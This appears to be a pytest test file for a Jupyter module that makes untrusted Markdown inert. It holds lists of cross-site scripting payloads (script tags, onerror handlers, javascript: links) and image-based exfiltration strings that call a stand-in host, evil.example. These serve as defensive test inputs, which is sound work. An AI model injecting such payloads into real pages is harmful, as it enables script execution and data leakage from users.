"""What others wrote, shown as Markdown. The judges are parsers that are not ours, see `page`."""

from __future__ import annotations

import re

import pytest
from hypothesis import given

from jupyter_eca.apps.kernel.answer.inert_markdown import (
    as_inert_markdown,
    as_inert_prose,
    as_inline_code,
)
from jupyter_eca.engine.text.code_block import as_code_block
from tests.apps.kernel.markdown_judges import COMMONMARK, NASTY, RENDERERS, Page, problems
from tests.support.steps import count_steps, grows_with_its_text


@given(NASTY)
def test_text_of_others_never_makes_html_or_foreign_links_of_its_own(text: str) -> None:
    assert problems(as_inert_markdown(text)) == {}


@given(NASTY)
def test_prose_and_code_in_a_line_of_ours_stay_inert(text: str) -> None:
    line = " ".join(text.split())
    assert problems(f"Ran {as_inline_code(text)} and said: {as_inert_prose(line)}") == {}


@given(NASTY, NASTY)
def test_a_block_holds_its_text_word_for_word_and_ends_where_it_should(text: str, after: str) -> None:
    shown = f"{as_code_block(text, 'text')}\n\n{as_inert_markdown(after)}"
    assert problems(shown) == {}
    # CommonMark knows one kind of line end, and no character zero.
    expected = re.sub(r"\r\n?", "\n", f"{text}\n").replace("\0", "\ufffd")
    assert COMMONMARK.parse(shown)[0].content == expected


@given(NASTY)
def test_inline_code_shows_its_text(text: str) -> None:
    words = " ".join(text.split())
    # The rules of HTML for numbers of characters that no text should have.
    expected = re.sub(r"[\x00-\x08\x0b\x0e-\x1f\x7f]", "\ufffd", words)
    shown = Page(RENDERERS["markdown-it"](f"x {as_inline_code(text)} x")).text.strip()
    assert re.sub(r"[\x00-\x08\x0b\x0e-\x1f\x7f]", "\ufffd", shown) == f"x {expected} x"


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<!-- x --><?x?><![CDATA[x]]>",
        "[click](javascript:alert(1))",
        "[click](JaVa&#115;cript&colon;alert(1))",
        "[click](java\\script\\:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](\njavascript:alert(1))",
        "[click][x]\n\n[x]: javascript:alert(1)",
        "[click](data:text/html,x)",
        "<javascript:alert(1)>",
        "`` ` <script>alert(1)</script>",
        "`a\n<script>alert(1)</script>`",
        "```\nx\n   ```\n<script>alert(1)</script>\n```",
        "````\n```\n<script>alert(1)</script>",
        "~~~\nx\n~~~\n<script>alert(1)</script>\n~~~",
        "- ```\n<script>alert(1)</script>\n```",
        "> ```\n<script>alert(1)</script>",
        "$$\n```\n$$\n<script>alert(1)</script>\n```",
        "$a$$b$\n```\n$$ <script>alert(1)</script>\n```",
        "$\\begin{a}$\n```\n\\end{a} <script>alert(1)</script>\n```",
        "\\\\[\n```\n\\\\]<script>alert(1)</script>\n```",
        '[x](http://a.example/$"onclick="alert(1)"$)',
        "```mermaid\n<script>alert(1)</script>\n```",
        '```"onclick=alert(1)\nx\n```',
        "| a |\n|---|\n| `|<script>alert(1)</script>` |",
        "\x00<script>alert(1)</script>",
        "a\r<script>alert(1)</script>",
    ],
)
def test_known_ways_to_act_do_nothing(text: str) -> None:
    assert problems(as_inert_markdown(text)) == {}


@pytest.mark.parametrize(
    "text",
    [
        "![](http://evil.example/leak?data)",
        "!![alt](http://evil.example/leak)",
        "!!!!![alt](http://evil.example/leak)",
        "![alt][x]\n\n[x]: http://evil.example/leak",
        '![a](http://evil.example "title")',
        "!<http://evil.example>",
        "\\\\![a](http://evil.example)",
        "[![badge](http://evil.example)](http://b.example)",
        "![a](plot.png)",
        "$![a](http://evil.example)$",
        "<img src=http://evil.example>",
    ],
)
def test_no_answer_makes_the_page_fetch_an_image(text: str) -> None:
    assert all("img" not in Page(render(as_inert_markdown(text))).tags for render in RENDERERS.values())


def ticks(length: int) -> str:
    """Runs of all lengths, none of which finds its partner."""
    return " ".join("`" * run for run in range(1, int((2 * length) ** 0.5)))


@pytest.mark.parametrize(
    ("before", "piece", "after"),
    [
        *(
            ("", piece, "")
            for piece in ("!", "[", "\\", "$a", "[x](", "[x](a(", "[x]( ", '[a](b "', "<http://a", "~~~")
        ),
        *(("", piece, "") for piece in ("```\n", "$$a", "- [ ] ", "`a``b", "> ")),
        *(("[a](x", piece, "") for piece in ("(", "(a", "a ", '"')),
        *(("$", piece, "$") for piece in ("\\begin{a}", "\\begin{a}x\\end{b}", "[(a\\", "&#")),
    ],
)
def test_a_text_of_twice_the_length_takes_about_twice_the_steps(before: str, piece: str, after: str) -> None:
    """Quadratic patterns took minutes here; an answer is written anew ten times a second while it grows."""
    assert grows_with_its_text(lambda text: as_inert_markdown(f"{before}{text}{after}"), piece, count=40)


def test_runs_of_backticks_without_partners_take_few_steps() -> None:
    # Each run is compared with those after it.
    text = ticks(1_000)
    assert count_steps(lambda: as_inert_markdown(text)) < 5 * len(text) * len(text.split())


def test_an_image_is_a_link_to_it() -> None:
    page = Page(RENDERERS["markdown-it"](as_inert_markdown("See ![the plot](http://a.example/p.png) and ![](b.png).")))
    assert (page.links, page.text.strip()) == (["http://a.example/p.png", "b.png"], "See the plot and b.png.")


# -- ordinary answers look as they were meant


def html(text: str) -> str:
    return RENDERERS["markdown-it, with tables"](as_inert_markdown(text)).replace("\n", "")


def test_fenced_code_keeps_its_language_and_every_character() -> None:
    shown = html('Try:\n```python title="x"\nif a < b and "c" & d:\n\n    print(`e`)\n```\nDone.')
    source = "if a &lt; b and &quot;c&quot; &amp; d:    print(`e`)"
    assert shown == f'<p>Try:</p><pre><code class="language-python">{source}</code></pre><p>Done.</p>'


def test_code_without_an_end_is_shown_as_code_while_it_grows() -> None:
    assert html("Try:\n```python\nx = 1") == '<p>Try:</p><pre><code class="language-python">x = 1</code></pre>'


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"),
        ("AT&T says &lt;", "<p>AT&amp;T says &amp;lt;</p>"),
        ("**bold**, *soft*, ~~gone~~", "<p><strong>bold</strong>, <em>soft</em>, <s>gone</s></p>"),
        ("Use `df[x < 1]` or ``a`b``.", "<p>Use <code>df[x &lt; 1]</code> or <code>a`b</code>.</p>"),
        ("\\*not soft\\* C:\\Users", "<p>*not soft* C:\\Users</p>"),
        ("It costs $5 and $6.", "<p>It costs $5 and $6.</p>"),
        ("at 12:30, std::vector", "<p>at 12:30, std::vector</p>"),
        ("# Head\n> said\n\n---", "<h1>Head</h1><blockquote><p>said</p></blockquote><hr />"),
        ("- [x] done", "<ul><li>[x] done</li></ul>"),
    ],
)
def test_ordinary_text_looks_right(text: str, shown: str) -> None:
    assert html(text) == shown


@pytest.mark.parametrize(
    ("text", "link", "words"),
    [
        ("[docs](https://a.example/b_(c)?d=1&e#f)", "https://a.example/b_(c)?d=1&e#f", "docs"),
        ('[docs](https://a.example "Title")', "https://a.example", "docs"),
        ("[`df.head`](#head)", "#head", "df.head"),
        ("<https://a.example/x>", "https://a.example/x", "https://a.example/x"),
        ("[mail](mailto:a@b.example)", "mailto:a@b.example", "mail"),
        ("[file](../data/x.csv)", "../data/x.csv", "file"),
    ],
)
def test_ordinary_links_work(text: str, link: str, words: str) -> None:
    page = Page(RENDERERS["markdown-it"](as_inert_markdown(text)))
    assert (page.links, page.text.strip()) == ([link], words)


def test_a_table_keeps_its_cells_also_with_code_in_them() -> None:
    shown = html("| a | b |\n|---|---|\n| `x|y` | 1 < 2 |")
    assert "<td><code>x|y</code></td><td>1 &lt; 2</td>" in shown


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("If $x<y$ then $y>x$.", "If $x\\lt y$ then $y>x$."),
        ("$$\n\\frac{a}{b} \\\\\n c\n$$", "$$\\frac{a}{b} \\\\ c$$"),
        ("$$\\begin{pmatrix}a&b\\end{pmatrix}$$", "$$\\begin{pmatrix}a& b\\end{pmatrix}$$"),
        ("$f'(x)_i^{*}$", "$f'(x)_i^{*}$"),
    ],
)
def test_formulas_stay_formulas_on_one_line(text: str, written: str) -> None:
    assert as_inert_markdown(text) == written


def test_code_in_a_nested_list_stands_between_its_points_and_what_follows_is_no_code() -> None:
    code_of_it = "        ```python\n        if x:\n            y\n        ```\n"
    text = f"1. One\n    - sub:\n{code_of_it}    - next\n      more\n2. Two"
    assert html(text) == (
        '<ol><li>One<ul><li>sub:</li></ul></li></ol><pre><code class="language-python">if x:    y</code></pre>'
        '<ul><li>nextmore</li></ul><ol start="2"><li>Two</li></ol>'
    )
